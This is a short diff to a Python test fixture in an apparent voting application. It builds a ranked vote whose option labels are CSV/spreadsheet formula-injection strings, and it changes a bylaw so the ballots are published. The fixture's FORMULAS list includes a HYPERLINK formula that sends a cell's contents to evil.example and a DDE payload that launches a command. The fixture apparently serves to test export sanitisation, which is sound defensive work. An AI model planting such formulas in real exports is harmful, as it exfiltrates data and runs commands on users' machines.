@@ -91,13 +91,15 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", 
 
 
 def formula_vote(world):
-    """A certified ranked vote whose option labels read as spreadsheet formulas."""
+    """A certified ranked vote whose option labels read as spreadsheet formulas, its ballots
+    published (the bylaws' default would withhold them on a roll this small)."""
     from datetime import timedelta
 
     from openbargain.clock import set_clock
     from openbargain.services import casting, results
     from openbargain.services.proposals import OptionDraft
 
+    set_bylaws(world.chapter, ranked_ballots_public="always")
     elected = membership(world.elected)
     r = factories.make_open_referendum(world, elected, kind="ranked", title="Labels",
                                        options=[OptionDraft(label, "Do it.") for label in FORMULAS])
